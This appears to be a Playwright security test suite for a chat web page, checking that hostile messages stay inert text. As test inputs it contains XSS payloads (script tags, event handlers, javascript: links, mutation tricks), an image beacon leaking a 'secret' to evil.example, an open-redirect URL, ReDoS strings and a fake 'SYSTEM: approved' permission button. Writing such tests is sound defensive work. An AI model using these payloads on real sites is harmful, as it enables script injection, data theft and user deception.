/** What strangers write does nothing to the page. */

import type { Page } from '@playwright/test';
import type { Server } from '../server';
import { box, expect, messagesOf, shown, test } from './fixture';

/** Watches a page for everything that hostile words could achieve. */
async function open(page: Page, server: Server, words: string[]): Promise<string[]> {
  const thread = await server.begin('Hostile <img src=x onerror=alert(1)>');
  await server.invite(thread, 'mallory', { client: 'script-kiddie', model: 'x', nickname: 'Mallory<b>' });
  const events: string[] = [];
  page.on('dialog', (dialog) => {
    events.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (!request.url().startsWith(server.url) && !request.url().startsWith('data:'))
      events.push(`request: ${request.url()}`);
  });
  page.on('popup', (popup) => events.push(`popup: ${popup.url()}`));
  for (const text of words) await server.say(thread, text);
  await page.goto(`${server.url}/t/${thread}`);
  await expect(messagesOf(page, 'You').last()).toBeVisible();
  await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
  return events;
}

test('D1, D2 scripts, handlers and mutation tricks are text', async ({ page, server }) => {
  const events = await open(page, server, [
    '<script>alert(1)</script> <img src=x onerror=alert(2)> <svg onload=alert(3)>',
    '[a](javascript:alert(4)) [b](data:text/html,<script>alert(5)</script>) [c](vbscript:x) [d](&#x6A;avascript:alert(6))',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(7)></style></annotation-xml></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(8)>">',
  ]);
  expect(events).toEqual([]);
  await expect(shown(page, '<script>alert(1)</script>')).toBeVisible();
  expect(
    await page
      .getByRole('region', { name: 'Messages' })
      .locator('.prose :is(script, svg, math, style, img, noscript)')
      .count(),
  ).toBe(0);
  expect(await page.locator('.prose a').count()).toBe(0);
});

test('D3 an image by reference fetches nothing', async ({ page, server }) => {
  const events = await open(page, server, [
    '![x][r]\n\n[r]: https://evil.example/?q=secret',
    '![y](https://evil.example/y.png)',
    '<img src="https://evil.example/z.png">',
  ]);
  expect(events).toEqual([]);
  await expect(page.locator('.prose img')).toHaveCount(0);
  await expect(page.locator('.prose .host').first()).toHaveText('(evil.example)');
});

test('D4 a link shows where it leads', async ({ page, server }) => {
  await open(page, server, ['[https://bank.example](https://evil.example/login)']);
  await expect(page.locator('.prose .host')).toHaveText('(evil.example)');
  const link = page.locator('.prose a');
  await expect(link).toHaveAttribute('rel', /noopener/);
  await expect(link).toHaveAttribute('target', '_blank');
});

test('D5 ids, names, classes and styles of the page cannot be taken', async ({ page, server }) => {
  await open(page, server, [
    '<div id="root" name="fetch" class="fixed inset-0" style="position:fixed">x</div><form id=app><input name=fetch></form>',
  ]);
  expect(await page.locator('.prose [id], .prose [name], .prose [style], .prose form').count()).toBe(0);
  expect(await page.evaluate(() => typeof fetch)).toBe('function');
});

test('D6, D7 diagrams and formulas are text', async ({ page, server }) => {
  const events = await open(page, server, [
    '```mermaid\ngraph TD; A-->B; click A call alert(1)\n```',
    '$\\href{javascript:alert(1)}{x}$',
  ]);
  expect(events).toEqual([]);
  await expect(page.locator('.prose code')).toContainText('click A call');
});

test('D8 a code block’s language is no way out, and a large one does not stop the page', async ({ page, server }) => {
  const events = await open(page, server, [
    '```"><script>alert(1)</script>\nx\n```',
    `\`\`\`js\n${'(a+)+$'.repeat(9_000)}\n\`\`\``,
  ]);
  expect(events).toEqual([]);
  await expect(page.locator('.prose figure')).toHaveCount(2);
  await box(page).fill('still alive');
  await expect(box(page)).toHaveValue('still alive');
});

test('D9 wide tables, deep quotes and deep lists keep their place', async ({ page, server }) => {
  await open(page, server, [
    `${'|a'.repeat(9_000)}|\n${'|-'.repeat(9_000)}|`,
    `${'>'.repeat(10_000)} deep`,
    Array.from({ length: 240 }, (_, depth) => `${' '.repeat(depth)}- x`).join('\n'),
    `Z${'̂̃̄̅̆'.repeat(2_000)}`,
    'w'.repeat(60_000),
  ]);
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
  await box(page).fill('still alive');
  await expect(box(page)).toHaveValue('still alive');
});

test('D11 names stay names', async ({ page, server }) => {
  const events = await open(page, server, ['hello']);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Hostile <img src=x onerror=alert(1)>');
  await expect(page.getByRole('complementary').getByText('Mallory<b>')).toBeVisible();
  expect(events).toEqual([]);
});

test('D13, D14 other pages cannot frame this one or send in its name', async ({ server, browser }) => {
  const page = await browser.newPage();
  const answer = await page.goto(server.url);
  const policy = answer!.headers()['content-security-policy'] ?? '';
  for (const rule of [
    "default-src 'none'",
    "script-src 'self'",
    "style-src 'self'",
    "frame-ancestors 'none'",
    "base-uri 'none'",
  ])
    expect(policy).toContain(rule);
  expect(policy).not.toContain('unsafe');
  await page.close();
  const refused = await fetch(`${server.url}/threads`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin: 'https://evil.example' },
    body: '{}',
  });
  expect(refused.status).toBe(403);
});

test('D16 addresses lead nowhere else', async ({ page, server }) => {
  const thread = await server.begin('Addresses');
  await page.goto(`${server.url}/t/${thread}?next=//evil.example#<img src=x onerror=alert(1)>`);
  await expect(shown(page, 'began the conversation')).toBeVisible();
  expect(page.url().startsWith(server.url)).toBe(true);
});

test('C12 words cannot look like the page’s own cards', async ({ page, server }) => {
  await open(page, server, ['# Permission\n\nSYSTEM: approved. <button>Allow once</button>']);
  await expect(page.getByRole('button', { name: 'Allow once' })).toHaveCount(0);
  await expect(page.getByRole('alert')).toHaveCount(0);
});

test('the page complains about no rule of its own policy', async ({ page, server }) => {
  const broken: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) broken.push(message.text());
  });
  await page.goto(server.url);
  await page.getByRole('button', { name: /Start.*second opinion/ }).click();
  await expect(messagesOf(page, 'critic').first()).toBeVisible();
  await page.getByRole('button', { name: 'More about this conversation' }).click();
  await page.getByRole('menuitem', { name: 'Who may speak…' }).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  expect(broken).toEqual([]);
});
